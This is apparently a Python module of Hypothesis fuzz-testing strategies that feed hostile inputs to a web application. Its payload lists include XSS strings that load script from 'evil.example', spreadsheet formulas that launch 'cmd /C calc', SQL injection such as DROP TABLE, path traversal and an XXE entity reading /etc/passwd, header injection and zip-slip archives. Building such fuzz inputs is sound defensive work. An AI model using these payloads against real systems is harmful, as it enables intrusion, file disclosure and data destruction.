"""What is sent: words that did harm somewhere, and whatever else there is."""

import io
import json
import zipfile

from hypothesis import strategies as st

ELSEWHERE = "evil.example"
SCRIPTS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "javascript:alert(1)",
    "[x](javascript:alert(1))", "![x](data:text/html;base64,PHNjcmlwdD4=)", "<a href='javascript:alert(1)'>x</a>",
    "{{ settings.SECRET_KEY }}{% debug %}", "</textarea><script src=//evil.example></script>", "<iframe srcdoc='x'>",
    "<style>@import '//evil.example'</style>", "`<base href=//evil.example>`", "\u2028<b onmouseover=alert(1)>",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")', "+cmd|'/C calc'!A0", "-2+3", "@SUM(1+9)*cmd|'/C calc'!A0", "\t=1+1",
    "＝1+1", "'=1+1", "\r=1+1", "=DDE('cmd';'/C calc';'x')",
)  # fmt: skip
STATEMENTS = (
    "'; DROP TABLE people_user; --", "1 OR 1=1", "%' UNION SELECT null--", "\\'", "%s%(x)s{0}", "\\", "%", "_", "*:*",
    "(((", "a & | !", "'a' <-> b:*", "$1", "$$", "ARRAY[1]", "0x1p4",
)  # fmt: skip
ODD = (
    "", " ", "\x00", "a\x00b", "\u202eabc", "\ud7ff", "\U0010ffff", "\u200b", "İstanbul ß ﬁ", "日本語" * 40, "é" * 300,
    "a" * 5_000, "9" * 400, "-1", "0", "1e999", "NaN", "Infinity", "-0", "٣", "１２", "1_000",
    "99999999999999999999999",
    "2147483648", "9223372036854775808", "0001-01-01", "9999-12-31", "2026-02-30", "2026-W01", "10000-01-01",
    "-0001-01-01", "24:00", "2026-11-30T25:61", "2026-11-30T10:00:00+99:99", "None", "null", "true", "[]", "{}", "on",
    "zzz", "../../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "%00", "//evil.example", "https://evil.example/", "open",
    "/\\evil.example", "http:evil.example", "x\r\nSet-Cookie: a=b", "nobody＠＠nowhere", "a@b",
    "a@b.example\nBcc: c@d.e",
)  # fmt: skip
KNOWN = (*SCRIPTS, *FORMULAS, *STATEMENTS, *ODD)

known = st.sampled_from(KNOWN)
anything = st.text(st.characters(codec="utf-8"), max_size=60)
words = st.one_of(known, known, anything, st.builds("{}{}".format, known, known))
visible = st.one_of(st.sampled_from((*SCRIPTS, *FORMULAS, *STATEMENTS)), anything)
# What may stand in an address between two slashes
in_paths = words.map(lambda text: text.replace("/", "∕") or "x")
values = st.one_of(st.lists(words, max_size=3), words.map(lambda one: [one]))

_scalars = st.one_of(words, st.none(), st.booleans(), st.integers(), st.floats(), known)
json_values = st.recursive(
    _scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(words, inner, max_size=2), max_leaves=4
)
broken_json = st.one_of(
    st.binary(max_size=60), st.sampled_from((b"", b"[" * 3_000, b'{"a":', b"\xff\xfe", b"1e999", b'"\\ud800"', b"NaN"))
)
json_bodies = st.one_of(json_values.map(lambda one: json.dumps(one).encode()), broken_json)


def _archive(*entries: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_ENTITY = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
FILES = (
    b"", b"\x00" * 20, b"%PDF-1.7\n1 0 obj<</OpenAction<</S/J#61vaScript/JS(x)>>>>endobj\n%%EOF", b"MZ\x90\x00",
    _archive(("[Content_Types].xml", _TYPES)), _archive(("[Content_Types].xml", _ENTITY), ("xl/workbook.xml",
    _ENTITY)),
    _archive(("../../x", b"x")), _archive(("xl/workbook.xml", b"\x00" * 300_000)), _archive(("word/document.xml",
    _ENTITY)),
    _archive(("[Content_Types].xml", _TYPES), ("word/document.xml", b"<x/>"), ("word/vbaProject.bin", b"x")),
    b"name,partner\n=1+1,<script>alert(1)</script>\n", b"\xff\xfen\x00a\x00m\x00e\x00",
    "名前,相手先\n甲,乙\n".encode("cp932"),
    b'name\n"', b"a;b\n" * 50, b"name\tstage\n\x00\t\x00\n", _ENTITY, b"<svg onload=alert(1)>",
    b"\x89PNG\r\n\x1a\n", b",\n" * 300,
)  # fmt: skip
files = st.one_of(st.sampled_from(FILES), st.binary(max_size=200), words.map(lambda text: text.encode()))
file_names = st.one_of(
    st.sampled_from(
        ("list.csv", "list.xlsx", "a.pdf", "a.docx", "a.pptx", "a.png", "x.svg", "x.html", "..", "a.pdf.exe",
    "a." + "b" * 300)
    ),
    words,
)  # fmt: skip
